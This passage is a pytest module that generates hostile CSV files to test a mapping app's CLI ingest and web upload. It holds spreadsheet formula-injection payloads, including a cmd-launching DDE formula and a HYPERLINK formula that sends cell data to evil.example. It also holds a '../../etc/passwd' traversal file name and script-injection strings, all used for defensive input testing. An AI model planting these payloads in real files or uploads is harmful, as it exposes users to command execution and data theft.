"""Hostile input files through the CLI and the web upload, on SQLite and PostGIS (issue 14).

A module fixture GENERATES the corpus into a temporary folder (nothing is committed): truncated
files, binary garbage, UTF-16/UTF-32/Latin-1/BOM variants, empty and header-only files, 10 MB
lines, NaN/Inf/huge numbers, swapped coordinates, duplicated columns, formula injection, years
1900/9999, archives and GIS files renamed .csv, mixed delimiters, very long values, control
characters, NUL bytes, deep quoting, wrong column counts, odd headers and, when ``../shared/data``
is present, real G-NetTrack logs mutated.

Every file goes through ``flask ingest --json`` (Click's runner, in-process) into one city and
through ``POST /unggah`` as a field-team member of a second city with the same kelurahan squares,
so that both paths fully process the same bytes.  Each must end in its expected KIND of outcome -
the file refused with a named reason, some rows rejected, or stored - never a traceback or a
500, with an Indonesian message for a refused file and an Indonesian report page, and every
rejected-rows CSV free of formula cells.  A few large files also run as real subprocesses whose
peak memory is measured.  Files expected to be refused run on both databases and both paths;
the others are spread so that each runs once and every family runs on both databases
(:data:`SPREAD`; ``PETAKOTA_HOSTILE_ALL=1`` runs every file everywhere).
"""
from __future__ import annotations

import csv
import gzip
import html
import io
import json
import os
import random
import re
import subprocess
import sys
import zipfile
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from pathlib import Path

import pytest
from babel.messages.extract import extract_from_dir
from werkzeug.datastructures import FileStorage
from werkzeug.test import stream_encode_multipart

from geo.csv_safety import FORMULA_TRIGGERS
from tests.conftest import ROOT
from tests.peak_memory import read_peak, start_with_peak
from tests.webmap.conftest import SQUARES, signed_in, write_city

HEADER = "latitude,longitude,timestamp,operator,technology,signal_dbm,no_service,device_id"
CLI_CITY, WEB_CITY = "99.01", "99.02"
#: Outcome kinds: the whole file refused, some rows rejected (the rest stored), all stored.
REFUSED, ROWS, STORED = "refused", "rows", "stored"
#: Peak memory allowed to one CLI ingest process (issue 14: any file up to the limit <= 1 GB).
MAX_PEAK_RSS_BYTES = 1 << 30
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:[.,]\d*)?|[.,]\d+)(?:[eE][+-]?\d+)?")
_SUMMARY = re.compile(r"([\d.]+) baris dibaca: ([\d.]+) disimpan, ([\d.]+) ditolak")
_ERROR = re.compile(r'<p class="error" role="alert">(.*?)</p>', re.S)


@dataclass(frozen=True)
class Case:
    """One hostile file: its bytes, the outcome kinds allowed and, for a refusal, a phrase the
    message must contain (the named reason)."""

    name: str
    family: str
    content: bytes
    expect: frozenset[str]
    says: str | None = None


# --- the corpus ---------------------------------------------------------------------------------

def row(i: int, tag: str, **values: str) -> str:
    """A valid canonical row inside both test cities (unique per file through ``tag``)."""
    fields = {"latitude": f"{1.601 + (i % 9) * 0.001:.3f}",
              "longitude": f"{101.401 + (i % 19) * 0.001:.3f}",
              "timestamp": f"2024-03-{1 + i // 1440 % 28:02d}T{i // 60 % 24:02d}:{i % 60:02d}:00",
              "operator": "Telkomsel", "technology": "4G", "signal_dbm": f"-{80 + i % 30}",
              "no_service": "false", "device_id": f"hp-{tag}"}
    fields.update(values)
    return ",".join(fields[name] for name in HEADER.split(","))


def good_file(tag: str, rows: int = 12, *, header: str = HEADER, newline: str = "\n") -> str:
    return newline.join([header, *(row(i, tag) for i in range(rows))]) + newline


def with_bad_row(tag: str, **values: str) -> bytes:
    """Good rows around one row with ``values`` (a quoted value keeps its commas)."""
    bad = {k: (f'"{v}"' if ("," in v or "\n" in v) and not v.startswith('"') else v)
           for k, v in values.items()}
    rows = [row(i, tag) for i in range(4)] + [row(99, tag, **bad)] + [row(i, tag)
                                                                      for i in range(5, 8)]
    return ("\n".join([HEADER, *rows]) + "\n").encode()


def _truncated(rng: random.Random) -> Iterator[Case]:
    text = good_file("trunc", 40).encode()
    header_end = len(HEADER)
    cuts = rng.sample(range(1, header_end), 4) + rng.sample(range(header_end + 2, len(text)), 26)
    for k, cut in enumerate(cuts):
        expect = {REFUSED} if cut < header_end else {STORED, ROWS}
        yield Case(f"truncated_{k}_{cut}.csv", "truncated", text[:cut], frozenset(expect))


def _binary(rng: random.Random) -> Iterator[Case]:
    for k in range(26):
        size = rng.choice([1, 7, 100, 4096, 70_000])
        yield Case(f"garbage_{k}.csv", "binary", rng.randbytes(size), frozenset({REFUSED}))
    signatures = {"png": b"\x89PNG\r\n\x1a\n", "jpeg": b"\xff\xd8\xff\xe0", "pdf": b"%PDF-1.7\n",
                  "xls": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "gif": b"GIF89a"}
    for kind, head in signatures.items():
        yield Case(f"{kind}.csv", "binary", head + rng.randbytes(2000), frozenset({REFUSED}),
                   "bukan file CSV")
    yield Case("gzip.csv", "binary", gzip.compress(good_file("gz").encode()),
               frozenset({REFUSED}), "gzip")
    yield Case("elf.csv", "binary", b"\x7fELF\x02\x01\x01" + bytes(200), frozenset({REFUSED}),
               "NUL")


def _encodings(rng: random.Random) -> Iterator[Case]:
    text = good_file("enc").replace("Telkomsel", "Telkomsél")
    for codec in ("utf-16-le", "utf-16-be"):
        yield Case(f"{codec}_nobom.csv", "encoding", text.encode(codec), frozenset({REFUSED}),
                   "UTF-16")
        yield Case(f"{codec}_bom.csv", "encoding", "\ufeff".encode(codec) + text.encode(codec),
                   frozenset({REFUSED}), "UTF-16")
        yield Case(f"{codec}_short.csv", "encoding", "lat\n".encode(codec), frozenset({REFUSED}))
    for codec in ("utf-32-le", "utf-32-be", "utf-32"):
        yield Case(f"{codec}.csv", "encoding", text.encode(codec), frozenset({REFUSED}))
    for codec in ("latin-1", "cp1252"):
        yield Case(f"{codec}.csv", "encoding", text.replace("enc", codec).encode(codec),
                   frozenset({REFUSED}), "bukan teks UTF-8")
    yield Case("cp1252_quotes.csv", "encoding",
               good_file("cp").replace("Telkomsel", "\u201cTsel\u201d").encode("cp1252"),
               frozenset({REFUSED}), "bukan teks UTF-8")
    yield Case("utf8_bom.csv", "encoding", b"\xef\xbb\xbf" + good_file("bom").encode(),
               frozenset({STORED}))
    yield Case("utf8_bom_twice.csv", "encoding", b"\xef\xbb\xbf" * 2 + good_file("bom2").encode(),
               frozenset({REFUSED, STORED, ROWS}))
    yield Case("utf8_accents.csv", "encoding", text.encode(), frozenset({STORED}))
    yield Case("overlong_utf8.csv", "encoding", good_file("ol").encode().replace(
        b"Telkomsel", b"Tel\xc0\xafsel"), frozenset({REFUSED}), "bukan teks UTF-8")
    yield Case("surrogate_utf8.csv", "encoding", good_file("sg").encode().replace(
        b"Telkomsel", b"Tel\xed\xa0\x80sel"), frozenset({REFUSED}), "bukan teks UTF-8")
    yield Case("cut_utf8_char.csv", "encoding", text.encode()[:-3] + b"\xc3",
               frozenset({REFUSED}), "bukan teks UTF-8")


def _empty(rng: random.Random) -> Iterator[Case]:
    cases = {"empty.csv": b"", "newline.csv": b"\n", "newlines.csv": b"\n\n\n\r\n",
             "spaces.csv": b"   \t  ", "bom_only.csv": b"\xef\xbb\xbf",
             "header_only.csv": HEADER.encode(), "header_newline.csv": HEADER.encode() + b"\n",
             "header_blank_lines.csv": HEADER.encode() + b"\n\n \n,,,,,,,\n",
             "header_crlf.csv": HEADER.encode() + b"\r\n", "comma_only.csv": b",\n,\n",
             "quote_only.csv": b'"', "quotes.csv": b'""\n""\n'}
    for name, content in cases.items():
        yield Case(name, "empty", content, frozenset({REFUSED}))


def _long_lines(rng: random.Random) -> Iterator[Case]:
    field = "x" * 10_000_000
    yield Case("ten_mb_field.csv", "long line",
               (HEADER + "\n" + row(0, "ll", operator=field) + "\n").encode(),
               frozenset({REFUSED}), "baris 2 panjangnya")
    yield Case("ten_mb_quoted.csv", "long line",
               (HEADER + "\n" + row(0, "lq") + "\n" + row(1, "lq", operator=f'"{field}"')
                + "\n").encode(), frozenset({REFUSED}), "baris 3 panjangnya")
    yield Case("ten_mb_header.csv", "long line", (field + "\n1\n").encode(), frozenset({REFUSED}),
               "baris pertamanya")
    yield Case("ten_mb_no_newline.csv", "long line", field.encode(), frozenset({REFUSED}))


_NUMBERS = ["NaN", "nan", "Inf", "-Inf", "inf", "Infinity", "1e308", "1e309", "-1e400",
            "9" * 400, "0x1A", "1_000", "\u0661\u066b\u0666", "1.6.1", "", " ", "+", "-", "1e",
            ".", "--5", "1,6"]


def _numbers(rng: random.Random) -> Iterator[Case]:
    for column in ("latitude", "longitude", "signal_dbm"):
        for k, value in enumerate(_NUMBERS):
            yield Case(f"number_{column}_{k}.csv", "numbers",
                       with_bad_row(f"n{column}{k}", **{column: value}), frozenset({ROWS}))


def _swapped(rng: random.Random) -> Iterator[Case]:
    for k, rows in enumerate((3, 12, 200)):
        text = good_file(f"sw{k}", rows)
        swapped = text.replace("latitude,longitude", "longitude,latitude", 1)
        yield Case(f"swapped_{rows}.csv", "swapped", swapped.encode(), frozenset({REFUSED}),
                   "tertukar")
    one = with_bad_row("sw1", latitude="101.405", longitude="1.605")
    yield Case("swapped_one_row.csv", "swapped", one, frozenset({ROWS}))
    yield Case("far_away.csv", "swapped", good_file("far").replace("1.6", "-6.2").encode(),
               frozenset({ROWS}))


def _duplicated_columns(rng: random.Random) -> Iterator[Case]:
    for k, column in enumerate(HEADER.split(",")):
        header = HEADER + "," + column
        lines = [header, *(row(i, f"dup{k}") + ",junk" for i in range(6))]
        yield Case(f"duplicate_{column}.csv", "duplicated columns",
                   ("\n".join(lines) + "\n").encode(), frozenset({STORED}))
    yield Case("every_column_twice.csv", "duplicated columns",
               ("\n".join([HEADER + "," + HEADER,
                           *(row(i, "dd") + "," + row(i, "dd2") for i in range(5))])
                + "\n").encode(), frozenset({STORED}))


FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1,"klik")', "+1+1",
            "-1+1", "@SUM(A1:A9)", "\t=1+1", "=1+1\r", "\uff1d1+1", "=IMPORTXML(A1,B1)",
            "-2+3+cmd|' /C calc'!A0"]


def _formulas(rng: random.Random) -> Iterator[Case]:
    for k, payload in enumerate(FORMULAS):
        quoted = '"' + payload.replace('"', '""') + '"'
        for column in ("operator", "device_id"):  # with a bad latitude: in the rejected rows
            yield Case(f"formula_{column}_{k}.csv", "formula injection",
                       with_bad_row(f"f{column}{k}", latitude="95", **{column: quoted}),
                       frozenset({ROWS}))
        yield Case(f"formula_stored_{k}.csv", "formula injection",
                   with_bad_row(f"fs{k}", operator=quoted), frozenset({STORED, ROWS}))
    header = HEADER + ',"=HYPERLINK(""http://x"")",@cmd'
    lines = [header, *(row(i, "fh") + ",=1+1,+2" for i in range(3)),
             row(3, "fh", latitude="95") + ",=1+1,-3+3"]
    yield Case("formula_header.csv", "formula injection", ("\n".join(lines) + "\n").encode(),
               frozenset({ROWS}))


def _years(rng: random.Random) -> Iterator[Case]:
    stamps = ["1900-01-01T00:00:00", "9999-12-31T23:59:59", "0001-01-01T00:00:00",
              "1970-01-01T00:00:00", "2262-04-12T00:00:00", "1677-09-21T00:00:00",
              "2024-02-30T08:00:00", "2024-13-01T08:00:00", "2024-03-01T25:00:00",
              "99999-01-01T00:00:00", "2024-03-01T08:00:00+99:00", "yesterday"]
    for k, stamp in enumerate(stamps):
        yield Case(f"year_{k}.csv", "years", with_bad_row(f"y{k}", timestamp=stamp),
                   frozenset({ROWS}))


def _renamed(rng: random.Random, folder: Path) -> Iterator[Case]:
    for k, (inner, member) in enumerate([(good_file("zip"), "data.csv"),
                                         ("<xml/>", "[Content_Types].xml")]):
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as archive:
            archive.writestr(member, inner)
        yield Case(f"zip_{k}.csv", "renamed", buffer.getvalue(), frozenset({REFUSED}), "ZIP")
    features = [{"type": "Feature", "properties": {"operator": "=cmd"},
                 "geometry": {"type": "Point", "coordinates": [101.405, 1.605]}}]
    geojson = json.dumps({"type": "FeatureCollection", "features": features})
    yield Case("geojson.csv", "renamed", geojson.encode(), frozenset({REFUSED}), "GeoJSON")
    yield Case("geojson_spaces.csv", "renamed", b"\n  " + geojson.encode(), frozenset({REFUSED}))
    yield Case("kml.csv", "renamed", b'<?xml version="1.0"?><kml></kml>', frozenset({REFUSED}),
               "XML")
    yield Case("html.csv", "renamed", b"<!DOCTYPE html><html><script>alert(1)</script></html>",
               frozenset({REFUSED}))
    yield Case("gpkg.csv", "renamed", _geopackage(folder), frozenset({REFUSED}), "GeoPackage")
    yield Case("sqlite.csv", "renamed", b"SQLite format 3\x00" + bytes(1000), frozenset({REFUSED}))


def _geopackage(folder: Path) -> bytes:
    import geopandas as gpd
    import shapely

    path = folder / "points.gpkg"
    gpd.GeoDataFrame({"operator": ["x"]}, geometry=[shapely.Point(101.405, 1.605)],
                     crs="EPSG:4326").to_file(path, driver="GPKG")
    return path.read_bytes()


def _delimiters(rng: random.Random) -> Iterator[Case]:
    text = good_file("dl", 8)
    for k, delimiter in enumerate([";", "\t", "|"]):
        lines = text.splitlines()
        mixed = [lines[0], *(line.replace(",", delimiter) for line in lines[1:])]
        yield Case(f"rows_with_{k}.csv", "mixed delimiters", ("\n".join(mixed) + "\n").encode(),
                   frozenset({ROWS}))
        header_other = [lines[0].replace(",", delimiter), *lines[1:]]
        yield Case(f"header_with_{k}.csv", "mixed delimiters",
                   ("\n".join(header_other) + "\n").encode(), frozenset({REFUSED, ROWS}))
        alternate = [lines[0], *(line.replace(",", delimiter) if i % 2 else line
                                 for i, line in enumerate(lines[1:]))]
        yield Case(f"alternate_{k}.csv", "mixed delimiters",
                   ("\n".join(alternate) + "\n").encode(), frozenset({ROWS}))
    semicolon = text.replace(",", ";").replace("1.6", "1,6").replace("101.4", "101,4")
    yield Case("semicolon_decimal_comma.csv", "mixed delimiters", semicolon.encode(),
               frozenset({STORED}))


def _long_values(rng: random.Random) -> Iterator[Case]:
    sizes = {"operator": [61, 1000, 100_001], "device_id": [81, 100_001],
             "technology": [5000], "no_service": [5000], "timestamp": [100_001],
             "signal_dbm": [100_001], "latitude": [100_001]}
    for column, lengths in sizes.items():
        for length in lengths:
            value = ("1" if column in ("signal_dbm", "latitude") else "a") * length
            yield Case(f"long_{column}_{length}.csv", "long values",
                       with_bad_row(f"lv{column}{length}", **{column: value}), frozenset({ROWS}))
    yield Case("long_operator_ok.csv", "long values",
               with_bad_row("lv-ok", operator="Telkomsel " * 5), frozenset({STORED}))


def _control_characters(rng: random.Random) -> Iterator[Case]:
    chars = ["\x01", "\x07", "\x08", "\x0b", "\x0c", "\x1b[31m", "\x7f", "\u202e", "\u200b",
             "\ufeff", "\u2028", "\x85", "\ud7ff", "\U0001f4f6"]
    for k, char in enumerate(chars):
        yield Case(f"control_{k}.csv", "control characters",
                   with_bad_row(f"cc{k}", operator=f"Tel{char}sel"), frozenset({STORED, ROWS}))
    yield Case("control_in_header.csv", "control characters",
               good_file("ch").replace("operator", "oper\x1bator", 1).encode(),
               frozenset({STORED, ROWS}))
    yield Case("cr_only_lines.csv", "control characters", good_file("cr", newline="\r").encode(),
               frozenset({STORED}))
    yield Case("crlf_lines.csv", "control characters", good_file("crlf", newline="\r\n").encode(),
               frozenset({STORED}))


def _nul_bytes(rng: random.Random) -> Iterator[Case]:
    text = good_file("nul", 300).encode()
    for k, position in enumerate([3, len(HEADER) + 5, len(text) // 2, len(text) - 2]):
        yield Case(f"nul_{k}.csv", "NUL bytes", text[:position] + b"\x00" + text[position:],
                   frozenset({REFUSED}), "NUL")
    yield Case("nul_only.csv", "NUL bytes", bytes(100), frozenset({REFUSED}), "UTF-16" and None)
    yield Case("nul_after_64k.csv", "NUL bytes",
               good_file("nul64", 1500).encode() + b"1.605,101.405,\x00\n",
               frozenset({REFUSED}), "NUL")


def _quoting(rng: random.Random) -> Iterator[Case]:
    values = ['"' + '"' * 2000 + '"', '"Tel""kom""sel"', '"Tel\nkom\nsel"', '"' + "a\n" * 500 + '"',
              '"unclosed', 'Tel"ksel', '""""', '"\r\n"', '"' + '""' * 10_000 + '"']
    for k, value in enumerate(values):
        yield Case(f"quoted_{k}.csv", "deep quoting", with_bad_row(f"q{k}", operator=value),
                   frozenset({STORED, ROWS}))
    yield Case("unclosed_first_row.csv", "deep quoting",
               ("\n".join([HEADER, '"' + row(0, "uq"), *(row(i, "uq") for i in range(1, 30))])
                + "\n").encode(), frozenset({ROWS}))
    yield Case("quoted_header.csv", "deep quoting",
               ("\n".join(['"' + '","'.join(HEADER.split(",")) + '"',
                           *(row(i, "qh") for i in range(5))]) + "\n").encode(),
               frozenset({STORED}))


def _column_counts(rng: random.Random) -> Iterator[Case]:
    for k, extra in enumerate([",", ",x", ",x,y,z", "," * 35 + "a" * 10]):
        yield Case(f"too_many_{k}.csv", "column counts", with_bad_row(f"cm{k}").replace(
            b"hp-cm" + str(k).encode() + b"\n", b"hp-cm" + str(k).encode() + extra.encode()
            + b"\n", 1), frozenset({ROWS, STORED}))
    for k, keep in enumerate([1, 2, 4, 7]):
        lines = good_file(f"few{k}", 8).splitlines()
        lines[3] = ",".join(lines[3].split(",")[:keep])
        yield Case(f"too_few_{k}.csv", "column counts", ("\n".join(lines) + "\n").encode(),
                   frozenset({ROWS}))
    wide = HEADER + "".join(f",extra_{i}" for i in range(5000))
    yield Case("five_thousand_columns.csv", "column counts",
               ("\n".join([wide, *(row(i, "wide") + "," * 5000 for i in range(3))])
                + "\n").encode(), frozenset({STORED}))
    yield Case("ragged.csv", "column counts",
               ("\n".join([HEADER, *(",".join(row(i, "rg").split(",")[:rng.randrange(1, 12)])
                                     for i in range(40))]) + "\n").encode(),
               frozenset({ROWS}))


def _headers(rng: random.Random) -> Iterator[Case]:
    variants = {"upper": HEADER.upper(), "spaces": HEADER.replace(",", " , "),
                "indonesian": "lintang,bujur,waktu,operator,teknologi,sinyal_dbm,tanpa_layanan,"
                              "perangkat",
                "units": HEADER.replace("signal_dbm", "Signal (dBm)")}
    for name, header in variants.items():
        yield Case(f"header_{name}.csv", "headers", good_file(f"h{name}", header=header).encode(),
                   frozenset({STORED}))
    unknown = {"no_coordinates": "a,b,c", "missing_time": "latitude,longitude,signal_dbm",
               "script": "<script>alert(1)</script>,latitude", "only_commas": ",,,,",
               "huge_names": ",".join("n" * 50_000 for _ in range(1)) + ",x"}
    for name, header in unknown.items():
        yield Case(f"header_{name}.csv", "headers", (header + "\n1,2,3\n").encode(),
                   frozenset({REFUSED}))
    yield Case("many_bad_rows.csv", "headers",
               ("\n".join([HEADER, *(row(i, "mb", latitude="95") for i in range(5000))])
                + "\n").encode(), frozenset({ROWS}))
    ookla = "quadkey,avg_d_kbps,avg_u_kbps,avg_lat_ms,tests,devices\n"
    yield Case("ookla_garbage.csv", "headers", (ookla + "=cmd,x,y,z,-1,0\n9999,1,1,1,1,1\n")
               .encode(), frozenset({ROWS}))


def _real_files(rng: random.Random, shared: Path | None) -> Iterator[Case]:
    """Real G-NetTrack logs mutated (they lie outside the test city: rows are rejected)."""
    folder = None if shared is None else shared / "measurements"
    if folder is None or not folder.is_dir():
        return
    for path in sorted(folder.glob("gnettrack*")):
        data = path.read_bytes()
        stem = path.stem[:30]
        yield Case(f"{stem}_as_is.csv", "real files mutated", data, frozenset({ROWS, REFUSED}))
        yield Case(f"{stem}_cut.csv", "real files mutated", data[: len(data) // 3],
                   frozenset({ROWS, REFUSED}))
        yield Case(f"{stem}_utf16.csv", "real files mutated",
                   data.decode("utf-8", "replace").encode("utf-16-le"), frozenset({REFUSED}),
                   "UTF-16")
        yield Case(f"{stem}_nul.csv", "real files mutated", data[:500] + b"\x00" + data[500:],
                   frozenset({REFUSED}), "NUL")
        lines = data.split(b"\n")
        yield Case(f"{stem}_no_header.csv", "real files mutated", b"\n".join(lines[1:]),
                   frozenset({REFUSED}))
        yield Case(f"{stem}_formula.csv", "real files mutated",
                   b"\n".join(lines[:1] + [b"=cmd|' /C calc'!A0" + line for line in lines[1:]]),
                   frozenset({ROWS, REFUSED}))


def generate_corpus(folder: Path, shared: Path | None) -> list[tuple[Case, Path]]:
    """Write every hostile file into ``folder``; return the cases with their paths."""
    rng = random.Random(14)
    families: list[Callable[[random.Random], Iterator[Case]]] = [
        _truncated, _binary, _encodings, _empty, _long_lines, _numbers, _swapped,
        _duplicated_columns, _formulas, _years, _delimiters, _long_values, _control_characters,
        _nul_bytes, _quoting, _column_counts, _headers]
    cases = [case for family in families for case in family(rng)]
    cases += list(_renamed(rng, folder)) + list(_real_files(rng, shared))
    written = []
    for number, case in enumerate(cases):
        path = folder / f"{number:03d}_{case.name}"
        path.write_bytes(case.content)
        written.append((case, path))
    return written


# --- the app with two cities ------------------------------------------------------------------

def _second_city(path: Path) -> Path:
    """The test city's squares as city 99.02 (codes 99.02.01.100x)."""
    write_city(path, {kode.replace("99.01", WEB_CITY, 1): box for kode, box in SQUARES.items()})
    text = path.read_text().replace('"99.01.01"', f'"{WEB_CITY}.01"').replace(
        '"99.01"', f'"{WEB_CITY}"').replace("Kota Uji", "Kota Uji Dua")
    path.write_text(text)
    return path


@dataclass
class Harness:
    """One database with two cities: the CLI ingests into the first, the web user uploads into
    the second."""

    app: object
    web: object
    database: str
    folder: Path
    url: str


@pytest.fixture(scope="module")
def corpus(tmp_path_factory) -> list[tuple[Case, Path]]:
    from tests.conftest import SHARED_DATA

    folder = tmp_path_factory.mktemp("hostile")
    return generate_corpus(folder, SHARED_DATA if SHARED_DATA.is_dir() else None)


@pytest.fixture(scope="module",
                params=["sqlite", pytest.param("postgis", marks=pytest.mark.postgis)])
def harness(request, tmp_path_factory) -> Iterator[Harness]:
    from webmap import create_app
    from webmap.database import create_db_engine, sqlite_url, upgrade_database
    from webmap.db import dispose_engine

    folder = tmp_path_factory.mktemp(f"hostile_{request.param}")
    if request.param == "postgis":
        url = request.getfixturevalue("postgis_server").create_database(
            template="petakota_template")
    else:
        url = sqlite_url(folder / "hostile.db")
        engine = create_db_engine(url)
        upgrade_database(engine)
        engine.dispose()
    app = create_app({"TESTING": True, "DATABASE_URL": url, "WTF_CSRF_ENABLED": False,
                      "ARCHIVE_DIR": str(folder / "archive")})
    runner = app.test_cli_runner()
    for city in (write_city(folder / "kota_uji.geojson"),
                 _second_city(folder / "kota_dua.geojson")):
        result = runner.invoke(args=["import-boundaries", str(city)])
        assert result.exit_code == 0, result.output
    web = signed_in(app, "tim.web", "tim_lapangan", city_kode=WEB_CITY)
    yield Harness(app, web, request.param, folder, url)
    dispose_engine(app)


# --- running one file ----------------------------------------------------------------------------

@dataclass
class Outcome:
    kind: str  # refused, rows, stored, already, crash
    message: str
    rejected_csv: str | None = None  # text of the rejected-rows CSV, when there is one


def run_cli(harness: Harness, path: Path) -> Outcome:
    result = harness.app.test_cli_runner().invoke(
        args=["ingest", str(path), "--city", CLI_CITY, "--json"])
    if result.exception is not None and not isinstance(result.exception, SystemExit):
        return Outcome("crash", f"{type(result.exception).__name__}: {result.exception}")
    try:
        report = json.loads(result.output)
    except json.JSONDecodeError:
        return Outcome("crash", f"exit {result.exit_code}, not JSON: {result.output[:300]}")
    if result.exit_code == 1 and "error" in report:
        return Outcome(REFUSED, report["error"])
    if result.exit_code != 0:
        return Outcome("crash", f"exit {result.exit_code}: {result.output[:300]}")
    rejected = report.get("rejected_csv")
    text = Path(rejected).read_text(encoding="utf-8-sig") if rejected else None
    return Outcome(_kind(report), report.get("message", ""), text)


def _kind(report: dict) -> str:
    if report.get("already_ingested"):
        return "already"
    return ROWS if report["rejected"] else STORED


def upload_body(content: bytes, name: str) -> dict:
    """Arguments of a test-client post of the upload form, the body built in memory (the test
    client would spool a large body to a temporary file it never closes)."""
    body, length, boundary = stream_encode_multipart(
        {"file": FileStorage(io.BytesIO(content), filename=name), "format": "auto"},
        use_tempfile=False)
    return {"input_stream": body, "content_length": length,
            "content_type": f'multipart/form-data; boundary="{boundary}"'}


def run_web(harness: Harness, path: Path, name: str) -> Outcome:
    response = harness.web.post("/unggah", **upload_body(path.read_bytes(), name))
    page = response.get_data(as_text=True)
    if response.status_code == 422:
        found = _ERROR.search(page)
        return Outcome(REFUSED if found else "crash",
                       html.unescape(found.group(1)) if found else page[:300])
    if response.status_code != 303:
        return Outcome("crash", f"HTTP {response.status_code}: {page[:300]}")
    report_url = response.headers["Location"]
    report = harness.web.get(report_url)
    text = report.get_data(as_text=True)
    summary = _SUMMARY.search(text)
    if report.status_code != 200 or summary is None:
        return Outcome("crash", f"report HTTP {report.status_code}: {text[:300]}")
    rejected = int(summary.group(3).replace(".", ""))
    if "sudah pernah diunggah" in text:
        return Outcome("already", summary.group(0))
    csv_text = None
    if rejected:
        with harness.web.get(report_url.rstrip("/") + "/ditolak.csv") as download:
            assert download.status_code == 200, report_url
            csv_text = download.get_data().decode("utf-8-sig")
    return Outcome(ROWS if rejected else STORED, summary.group(0), csv_text)


# --- what a good outcome is ----------------------------------------------------------------------

def _templates() -> list[re.Pattern]:
    """Every Indonesian message template of geo and webmap, as a pattern of its full text."""
    keywords = {"_": None, "gettext": None, "N_": None, "_l": None, "lazy_gettext": None}
    patterns = []
    for folder in (ROOT / "geo", ROOT / "webmap"):
        for *_where, message, _comments, _context in extract_from_dir(
                str(folder), [("**.py", "python")], keywords=keywords):
            text = message[0] if isinstance(message, tuple) else message
            if "%(" in text:
                parts = re.split(r"%\(\w+\)[sd]", text)
                patterns.append(re.compile("(?s)" + ".*".join(map(re.escape, parts))))
    return patterns


TEMPLATES = _templates()


def problems_with(case: Case, outcome: Outcome) -> list[str]:
    """What is wrong with an outcome (nothing: an empty list)."""
    problems = []
    if outcome.kind not in case.expect:
        problems.append(f"{outcome.kind} instead of {sorted(case.expect)}: {outcome.message[:300]}")
    if outcome.kind == REFUSED:
        if not any(pattern.fullmatch(outcome.message) for pattern in TEMPLATES):
            problems.append(f"refused without an Indonesian message: {outcome.message[:300]}")
        if case.says and case.says not in outcome.message:
            problems.append(f"the reason does not say {case.says!r}: {outcome.message[:300]}")
        if "Traceback" in outcome.message or "straddl" in outcome.message:
            problems.append(f"internal detail shown: {outcome.message[:300]}")
    if outcome.rejected_csv is not None:
        problems += _formula_cells(outcome.rejected_csv)
    return problems


def _formula_cells(text: str) -> list[str]:
    delimiter = ";" if text.split("\n", 1)[0].count(";") > text.split("\n", 1)[0].count(",") \
        else ","
    cells = (cell for line in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
             for cell in line)
    bad = [cell for cell in cells
           if cell.startswith(FORMULA_TRIGGERS) and not _PLAIN_NUMBER.fullmatch(cell)]
    return [f"formula cell in the rejected rows: {cell[:80]!r}" for cell in bad[:3]]


#: Where the files that may be stored run: a file runs on the database and path whose set holds
#: its number modulo 10.  Each of them runs once, and every family on both databases; files
#: expected to be refused (they stop before the database) run everywhere.  Storing a file on
#: SQLite starts two helper processes (~0.7 s of CPU), and the suite must stay short on two
#: cores; ``PETAKOTA_HOSTILE_ALL=1`` runs every file everywhere.
SPREAD = {("sqlite", "cli"): {0}, ("sqlite", "web"): {5}, ("postgis", "cli"): {1, 2, 3, 4},
          ("postgis", "web"): {6, 7, 8, 9}}
RUN_ALL = os.environ.get("PETAKOTA_HOSTILE_ALL") == "1"


def chosen(database: str, path: str, corpus: list[tuple[Case, Path]]
           ) -> list[tuple[Case, Path]]:
    """The files run on ``database`` through ``path`` ("cli" or "web")."""
    return [(case, file) for number, (case, file) in enumerate(corpus)
            if RUN_ALL or case.expect == {REFUSED} or number % 10 in SPREAD[database, path]]


def test_every_file_runs_somewhere_and_refusals_everywhere(corpus):
    runs = {place: {file for _, file in chosen(*place, corpus)} for place in SPREAD}
    assert set().union(*runs.values()) == {file for _, file in corpus}
    refused = {file for case, file in corpus if case.expect == {REFUSED}}
    assert all(refused <= files for files in runs.values())
    for database in ("sqlite", "postgis"):
        families = {case.family for case, file in corpus
                    if file in runs[database, "cli"] | runs[database, "web"]}
        assert families == {case.family for case, _ in corpus}


# --- the tests ----------------------------------------------------------------------------------

def test_corpus_has_at_least_300_files(corpus):
    assert len(corpus) >= 300
    assert len({case.family for case, _ in corpus}) >= 18
    assert len({path.read_bytes() for _, path in corpus}) == len(corpus)  # no repeated file


def test_every_hostile_file_through_the_cli(harness, corpus):
    failures = {path.name: problems for case, path in chosen(harness.database, "cli", corpus)
                if (problems := problems_with(case, run_cli(harness, path)))}
    assert failures == {}


def test_every_hostile_file_through_the_web_upload(harness, corpus):
    failures = {path.name: problems for case, path in chosen(harness.database, "web", corpus)
                if (problems := problems_with(case, run_web(harness, path, case.name)))}
    assert failures == {}


@pytest.mark.parametrize("name", ["=cmd|' calc'!A0.csv", "../../etc/passwd.csv",
                                  "<script>alert(1)</script>.csv", "x" * 300 + ".csv",
                                  "nama dengan spasi & titik.koma;.csv"])
def test_hostile_file_names_through_the_web_upload(harness, tmp_path, name):
    path = tmp_path / "upload.csv"
    path.write_bytes(with_bad_row(f"name{len(name)}{harness.database}", latitude="95"))
    outcome = run_web(harness, path, name)
    assert outcome.kind == ROWS, outcome.message
    assert _formula_cells(outcome.rejected_csv or "") == []


# --- real processes: memory -----------------------------------------------------------------------

#: Large files run as real processes: on SQLite all of them, on PostgreSQL the first.
LARGE_CASES = ["many_bad_rows.csv", "ten_mb_field.csv", "long_operator_100001.csv"]


@pytest.mark.parametrize("name", LARGE_CASES)
def test_large_hostile_files_in_a_real_process_stay_within_memory(harness, corpus, name,
                                                                 tmp_path):
    if harness.database == "postgis" and name != LARGE_CASES[0]:
        pytest.skip("one large file in a real process is enough on PostgreSQL")
    case, original = next((case, path) for case, path in corpus if case.name == name)
    path = tmp_path / name  # a blank line more: not the file the corpus runs may have stored
    path.write_bytes(original.read_bytes() + b"\n")
    env = {**os.environ, "DATABASE_URL": harness.url, "PETAKOTA_INSTANCE": str(harness.folder),
           "FLASK_ARCHIVE_DIR": str(harness.folder / "archive")}
    stdout, stderr, returncode, peak = _run_measured(
